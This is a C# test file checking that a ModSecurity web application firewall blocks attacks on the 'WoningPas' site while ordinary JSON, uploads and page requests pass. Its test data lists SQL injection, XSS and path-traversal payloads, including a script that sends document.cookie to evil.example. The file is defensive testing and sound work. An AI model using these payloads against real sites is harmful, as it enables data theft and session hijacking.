using System.Net;
using System.Security.Cryptography;
using System.Text;

namespace WoningPas.Edge.Tests;

/// <summary>
/// ModSecurity with the OWASP Core Rule Set in blocking mode: common attacks in the query, the body and the headers get
/// 403 and never reach an origin, while the product's own traffic (JSON, uploads, the session cookie) passes.
/// </summary>
[Collection(EdgeCollection.Name)]
public sealed class FirewallTests(EdgeFixture fixture)
{
    [Theory]
    [InlineData("/?id=1%27%20OR%20%271%27%3D%271")]
    [InlineData("/en/faq?q=1%20UNION%20SELECT%20password%20FROM%20users--")]
    [InlineData("/api/dwellings?sort=name;DROP%20TABLE%20dwellings")]
    [InlineData("/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")]
    [InlineData("/woningpas?next=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")]
    [InlineData("/api/documents?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd")]
    [InlineData("/?page=....%2F%2F....%2F%2Fetc%2Fpasswd")]
    [InlineData("/css/site.css?x=%2e%2e%2f%2e%2e%2fwindows%2fwin.ini")]
    public async Task An_attack_in_the_query_gets_403_and_reaches_no_origin(string path)
    {
        using var client = fixture.Client();

        using var response = await client.SendAsync(path);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Empty(fixture.WebLog.For(path));
        Assert.Empty(fixture.ApiLog.For(path));
        var body = await response.TextAsync();
        if (path.StartsWith("/api/", StringComparison.Ordinal))
        {
            Assert.Contains("request-refused", body, StringComparison.Ordinal);
        }
        else
        {
            Assert.Contains("Uw verzoek werd geweigerd", body, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("application/json", "{\"purpose\":\"x' OR 1=1 UNION SELECT insz FROM people--\"}")]
    [InlineData("application/json", "{\"title\":\"<script>fetch('//evil.example/'+document.cookie)</script>\"}")]
    [InlineData("application/x-www-form-urlencoded", "path=../../../../etc/shadow")]
    public async Task An_attack_in_the_body_gets_403(string contentType, string body)
    {
        var path = "/api/dwellings/6f1c/shares?t=" + Guid.NewGuid().ToString("N");
        using var client = fixture.Client();

        using var response = await client.SendAsync(path, r => r.Content = new StringContent(body, Encoding.UTF8, contentType),
            HttpMethod.Post);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Empty(fixture.ApiLog.For(path));
    }

    [Theory]
    [InlineData("User-Agent", "<script>alert(1)</script>")]
    [InlineData("Referer", "http://x/'; DROP TABLE access_log; --")]
    [InlineData("X-Filename", "../../../../etc/passwd")]
    public async Task An_attack_in_a_header_gets_403(string header, string value)
    {
        var path = "/api/me/reminders?t=" + Guid.NewGuid().ToString("N");
        using var client = fixture.Client();

        using var response = await client.SendAsync(path, r => r.Headers.TryAddWithoutValidation(header, value));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Empty(fixture.ApiLog.For(path));
    }

    [Fact]
    public async Task The_products_json_bodies_pass()
    {
        var path = "/api/dwellings/6f1c0a52-8d2e-4c7a-9b1e-2f3a4b5c6d7e/shares?t=" + Guid.NewGuid().ToString("N");
        using var client = fixture.Client();
        const string Json = """
            {"recipient":{"kind":"notary","name":"Notaris De Smet & Vennoten","email":"kantoor@notaris-desmet.be"},
             "sections":["epc","renovation","asbestos","soil"],"validUntil":"2027-01-31",
             "purpose":"Verkoop van de woning (compromis getekend op 12/11/2026); vragen? Bel 09/123.45.67",
             "note":"Graag ook het bodemattest – perceel 44021A0123/00B000 – en de renovatieplicht (label E → D)."}
            """;

        using var response = await client.SendAsync(path, r =>
        {
            r.Content = new StringContent(Json, Encoding.UTF8, "application/json");
            r.Headers.TryAddWithoutValidation("X-WoningPas-Csrf", "1");
            r.Headers.TryAddWithoutValidation("Cookie", "woningpas-session=" + SessionTicket());
        }, HttpMethod.Post);

        Assert.True(response.StatusCode == HttpStatusCode.OK, fixture.Edge.ErrorLog());
        Assert.Single(fixture.ApiLog.For(path));
    }

    [Theory]
    [InlineData("PUT")]
    [InlineData("PATCH")]
    [InlineData("DELETE")]
    public async Task The_apis_rest_methods_pass(string method)
    {
        var path = "/api/dwellings/6f1c0a52-8d2e-4c7a-9b1e-2f3a4b5c6d7e/shares/3?t=" + Guid.NewGuid().ToString("N");
        using var client = fixture.Client();

        using var response = await client.SendAsync(path, r =>
        {
            r.Headers.TryAddWithoutValidation("X-WoningPas-Csrf", "1");
            if (method != "DELETE")
            {
                r.Content = new StringContent("{\"validUntil\":\"2027-02-28\"}", Encoding.UTF8, "application/json");
            }
        }, new HttpMethod(method));

        Assert.True(response.StatusCode == HttpStatusCode.OK, fixture.Edge.ErrorLog());
    }

    [Theory]
    [InlineData("plan-gelijkvloers.pdf", "application/pdf")]
    [InlineData("foto voorgevel.jpg", "image/jpeg")]
    public async Task An_owner_document_upload_passes(string fileName, string contentType)
    {
        var path = "/api/dwellings/6f1c0a52-8d2e-4c7a-9b1e-2f3a4b5c6d7e/documents?t=" + Guid.NewGuid().ToString("N");
        using var client = fixture.Client();
        var bytes = RandomNumberGenerator.GetBytes(256 * 1024);
        var header = contentType == "application/pdf" ? "%PDF-1.7\n"u8.ToArray() : new byte[] { 0xFF, 0xD8, 0xFF, 0xE0 };
        header.CopyTo(bytes, 0);

        // The body exactly as a browser's FormData writes it: the passport UI is what uploads.
        const string Boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
        using var body = new MemoryStream();
        body.Write(Encoding.UTF8.GetBytes(
            $"--{Boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nPlan van het gelijkvloers (2019)\r\n"
            + $"--{Boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fileName}\"\r\n"
            + $"Content-Type: {contentType}\r\n\r\n"));
        body.Write(bytes);
        body.Write(Encoding.UTF8.GetBytes($"\r\n--{Boundary}--\r\n"));

        using var response = await client.SendAsync(path, r =>
        {
            r.Content = new ByteArrayContent(body.ToArray());
            r.Content.Headers.TryAddWithoutValidation("Content-Type", $"multipart/form-data; boundary={Boundary}");
            r.Headers.TryAddWithoutValidation("X-WoningPas-Csrf", "1");
        }, HttpMethod.Post);

        Assert.True(response.StatusCode == HttpStatusCode.OK, fixture.Edge.ErrorLog());
        Assert.Single(fixture.ApiLog.For(path));
    }

    [Fact]
    public async Task A_browsers_ordinary_page_requests_pass()
    {
        using var client = fixture.Client();
        foreach (var path in new[] { "/", "/en", "/woningpas", "/wat-staat-erin/epc", "/en/what-it-contains/flood-risk", "/css/site.css", "/img/favicon.svg" })
        {
            using var response = await client.SendAsync(path, r =>
            {
                r.Headers.TryAddWithoutValidation("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36");
                r.Headers.TryAddWithoutValidation("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
                r.Headers.TryAddWithoutValidation("Accept-Language", "nl-BE,nl;q=0.9,en;q=0.8");
                r.Headers.TryAddWithoutValidation("Cookie", "woningpas-session=" + SessionTicket());
            });
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path}: {(int)response.StatusCode}");
        }
    }

    /// <summary>What an ASP.NET Core session ticket looks like: long, random base64url text.</summary>
    private static string SessionTicket()
    {
        var bytes = RandomNumberGenerator.GetBytes(600);
        return "CfDJ8" + Convert.ToBase64String(bytes).Replace('+', '-').Replace('/', '_').TrimEnd('=');
    }
}
